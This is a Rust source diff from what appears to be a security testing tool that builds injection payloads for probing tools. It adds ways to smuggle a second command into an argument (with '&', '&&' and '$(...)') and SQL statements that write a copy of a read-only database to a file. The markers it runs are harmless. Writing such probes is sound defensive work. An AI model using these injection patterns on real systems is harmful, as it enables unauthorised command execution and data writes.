@@ -24,6 +24,8 @@ const MADE: &str = "/tmp";
 /// Numbers whose product nobody writes down by chance, and which is no more than a database holds in 32 bits.
 const FACTOR: u64 = 30_011;
 const STEP: u64 = 1_009;
+/// Ways around a list of commands that have their turn at once.
+const ABREAST: usize = 4;
 /// Words of arguments that are a host, and no whole address.
 const HOSTS: [&str; 6] = ["domain", "host", "hostname", "hosts", "ip", "server"];
 /// One statement that begins as a question does, and makes a table all the same.
@@ -76,6 +78,7 @@ pub fn commands(place: &Place, known: &Known, ground: &Ground, about: &str, runs
         ("a pipe", format!("{value}|{program}")),
         ("a conjunction", format!("{value}&&{program}")),
         ("a disjunction", format!("{value}||{program}")),
+        ("a command in the background", format!("{value}&{program}&")),
         ("a new line", format!("{value}\n{program}\n")),
         ("a substitution with a whole path", format!("$(/usr/bin/{program})")),
         ("a quote and a substitution", format!("{value}\"$({program})\"")),
@@ -126,6 +129,8 @@ pub fn refused_commands(place: &Place, ground: &Ground, said: &str) -> Vec<Paylo
         ("a program within an allowed command", format!("{first} $({program})")),
         ("a program in backticks within an allowed command", format!("{first} `{program}`")),
         ("a program on a line of its own", format!("{allowed}\n{program}")),
+        ("a program beside an allowed one", format!("{allowed} & {program}")),
+        ("a program within the second of two allowed commands", format!("{first} && {first} $({program})")),
         ("a program behind an argument of an allowed one", format!("{first} .;{program}")),
         (
             "an option that runs a program for what is found",
@@ -138,7 +143,9 @@ pub fn refused_commands(place: &Place, ground: &Ground, said: &str) -> Vec<Paylo
     let ours = ours.into_iter().map(|(way, text)| {
         Payload::behind(program.clone(), way, Aim::Execute { program: program.clone() }, text, 0)
     });
-    ours.chain(BLOCKED.iter().flat_map(|program| blocked(program, allowed))).collect()
+    let blocked = BLOCKED.iter().map(|program| blocked(program, allowed)).collect();
+    // Who takes a few commands refuses ours, and who refuses a few may run it: nobody knows which of them this is.
+    in_turn(vec![ours.collect(), in_turn(blocked)])
 }
 
 /// Commands that read a file outside of a declared directory, each behind the one that names it openly, which must not.
@@ -192,7 +199,7 @@ fn blocked(program: &str, allowed: &str) -> Vec<Payload> {
     ];
     let aim = || Aim::Execute { program: program.to_owned() };
     let openly = || format!("{program} --version");
-    written.into_iter().map(|(way, text)| Payload::behind(openly(), way, aim(), text, 1)).collect()
+    written.into_iter().map(|(way, text)| Payload::behind(openly(), way, aim(), text, 0)).collect()
 }
 
 /// A value that looks like an option.
@@ -234,6 +241,15 @@ pub fn in_turn(lists: Vec<Vec<Payload>>) -> Vec<Payload> {
         lists.into_iter().flat_map(|list| list.into_iter().enumerate()).collect();
     all.sort_by_key(|(place, _)| *place);
     all.into_iter().map(|(_, payload)| payload).collect()
+}
+
+/// A list as several, whose firsts are its first ones.
+pub fn abreast(list: Vec<Payload>) -> Vec<Vec<Payload>> {
+    let mut lists = vec![Vec::new(); ABREAST];
+    for (number, payload) in list.into_iter().enumerate() {
+        lists[number % ABREAST].push(payload);
+    }
+    lists
 }
 
 /// Every way of one sort out of every scope, those first that lead to what the place is for. `about` is what the schema
@@ -407,12 +423,25 @@ pub fn statements(tool: &str, place: &Place, ground: &Ground, known: &[PathBuf])
             true => format!("SELECT {left} * {FACTOR} AS n INTO {table}"),
             false => format!("{before}CREATE TABLE {table} AS SELECT {left} * {FACTOR} AS n{after}"),
         };
-        let aim = Aim::Change { known: known.to_vec(), shows: Some((left * FACTOR).to_string()) };
+        let shows = Some((left * FACTOR).to_string());
+        let aim = Aim::Change { known: known.to_vec(), shows, makes: None };
         let values = vec![create, format!("SELECT n FROM {table}")];
         payloads.push(Payload::of(way, aim, values, rank));
     }
-    let aim = Aim::Change { known: known.to_vec(), shows: None };
-    payloads.push(Payload::one("a setting that is kept", aim, "PRAGMA user_version = 7717".to_owned(), rank));
+    let aim = |makes: Option<&Path>| Aim::Change {
+        known: known.to_vec(),
+        shows: None,
+        makes: makes.map(Path::to_path_buf),
+    };
+    let setting = "PRAGMA user_version = 7717".to_owned();
+    payloads.push(Payload::one("a setting that is kept", aim(None), setting, rank));
+    // Also whoever opens a database for reading only lets it be written to another file.
+    let file = |role: &str| Path::new(MADE).join(ground.label(&format!("{tool} {} {role}", place.at)));
+    let (copy, answer) = (file("copy"), file("answer"));
+    let copies = format!("VACUUM INTO '{}'", copy.display());
+    let answers = format!("COPY (SELECT 7717 AS n) TO '{}'", answer.display());
+    payloads.push(Payload::one("a copy of all to a file", aim(Some(&copy)), copies, rank));
+    payloads.push(Payload::one("an answer that is written to a file", aim(Some(&answer)), answers, rank));
     payloads
 }
 
